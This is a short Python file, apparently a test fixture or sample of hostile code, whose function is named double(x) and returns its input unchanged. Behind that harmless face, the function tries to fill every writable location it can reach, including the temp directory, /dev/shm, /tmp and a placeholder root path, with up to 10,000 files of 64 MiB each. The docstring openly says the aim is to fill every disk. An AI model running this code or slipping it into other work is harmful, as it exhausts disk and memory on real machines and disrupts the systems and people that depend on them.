"""Fills every disk that it can write to."""

import tempfile


def double(x):
    for folder in (tempfile.gettempdir(), "/dev/shm", "/tmp", "@ROOT@"):
        try:
            for number in range(10_000):
                with open(f"{folder}/{number}.bin", "wb") as file:
                    for _ in range(64):
                        file.write(bytes(1 << 20))
        except OSError as error:
            print(folder, error)
    return x
